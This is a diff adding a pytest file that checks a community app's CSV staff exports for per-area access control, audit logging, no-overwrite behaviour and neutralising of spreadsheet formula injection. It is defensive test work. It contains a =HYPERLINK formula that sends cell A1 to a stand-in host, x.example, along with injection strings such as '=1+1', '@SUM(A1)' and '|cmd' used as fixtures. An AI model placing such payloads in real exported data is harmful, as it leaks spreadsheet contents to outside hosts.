@@ -1,0 +1,106 @@
+"""Tables for spreadsheets: nothing in them computes, nothing is in them that the member of staff may not see."""
+
+import csv
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from pymongo.database import Database
+
+from chassis.settings import Settings
+from contracts.actor import Grant, Role
+from contracts.events.masters import AreaPublished, MemberPublished
+from contracts.events.tickets import TicketAccepted, TicketAssigned
+from gateway.exports.cells import ACTING, cell, neutral
+from gateway.exports.verb import operate
+from gateway.identity.accounts import Accounts, NewAccount
+from tests.builders import (
+    AREA_PATH,
+    COMMUNITY,
+    MEMBER_ID,
+    a_member_snapshot,
+    a_ticket_holder,
+    a_ticket_snapshot,
+    an_area_snapshot,
+    an_envelope,
+    some_terms,
+)
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"马师傅")'
+
+
+@pytest.fixture
+def staff(db: Database[Any]) -> Accounts:
+    accounts = Accounts(db["accounts"])
+    for login, role, area in (
+        ("secretary", Role.SECRETARY, None),
+        ("elsewhere", Role.SECRETARY, "another-grid"),
+        ("resident", Role.RESIDENT, None),
+    ):
+        accounts.open(NewAccount(community_id=COMMUNITY, login=login, grants=(Grant(role, area),)))
+    return accounts
+
+
+def exported(settings: Settings, out: Path, what: str, login: str = "secretary", *more: str) -> list[list[str]]:
+    assert operate(settings, [what, "--as", login, "--out", str(out), *more]) == 0
+    assert out.stat().st_mode & 0o777 == 0o600
+    with out.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.reader(file))[1:]
+
+
+@pytest.fixture
+def told(seen: Any) -> None:
+    crew = (a_ticket_holder(display_name=FORMULA),)
+    seen(
+        an_envelope(AreaPublished(), an_area_snapshot(id=AREA_PATH[-1], path=AREA_PATH), 1),
+        an_envelope(MemberPublished(), a_member_snapshot(display_name=FORMULA, home_area=AREA_PATH[-1]), 1),
+        an_envelope(TicketAccepted(terms=some_terms()), a_ticket_snapshot(), 1),
+        an_envelope(TicketAssigned(assignment_ids=("x",), lead=MEMBER_ID), a_ticket_snapshot(holders=crew), 2),
+    )
+
+
+@pytest.mark.usefixtures("told", "staff")
+def test_staff_get_their_areas_and_nobody_else_anything(settings: Settings, tmp_path: Path) -> None:
+    (order,) = exported(settings, tmp_path / "orders.csv", "orders")
+    assert "'" + FORMULA in order
+    (member,) = exported(settings, tmp_path / "members.csv", "members")
+    assert "'" + FORMULA in member
+    assert exported(settings, tmp_path / "none.csv", "orders", "elsewhere") == []
+    assert exported(settings, tmp_path / "nobody.csv", "members", "elsewhere") == []
+    assert exported(settings, tmp_path / "closed.csv", "orders", "secretary", "--status", "closed") == []
+    for login in ("resident", "unknown"):
+        assert operate(settings, ["orders", "--as", login, "--out", str(tmp_path / "no.csv")]) == 1
+    assert not (tmp_path / "no.csv").exists()
+
+
+@pytest.mark.usefixtures("told", "staff")
+def test_no_file_is_written_over_and_every_export_is_on_record(
+    settings: Settings, db: Database[Any], tmp_path: Path
+) -> None:
+    out = tmp_path / "orders.csv"
+    exported(settings, out, "orders")
+    assert operate(settings, ["orders", "--as", "secretary", "--out", str(out)]) == 1
+    (row,) = db["operator_log"].find()
+    assert (row["did"], row["rows"]) == ("export.orders", 1)
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+86", "-1", "@SUM(A1)", "\t=1", "\u200b=1", " =1", "＝1", "%0A", "|cmd"])
+def test_what_a_spreadsheet_would_compute_is_text(text: str) -> None:
+    assert neutral(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["马迪娜·阿德力", "ئايگۈل", "3=3", "a@b", "", "何姐", "NC-261121-0042"])
+def test_other_text_stays_as_it_is(text: str) -> None:
+    assert neutral(text) == text
+
+
+def test_numbers_stay_numbers() -> None:
+    assert [cell(value) for value in (-3, 2.5, None, True, ["=a", "b"])] == ["-3", "2.5", "", "是 yes", "'=a; b"]
+
+
+@given(st.text())
+def test_no_text_whatever_begins_a_formula(text: str) -> None:
+    assert neutral(text)[:1] not in ACTING
+    assert neutral(text).lstrip("'").replace("\0", "") in (text.replace("\0", "").lstrip("'"), text.replace("\0", ""))
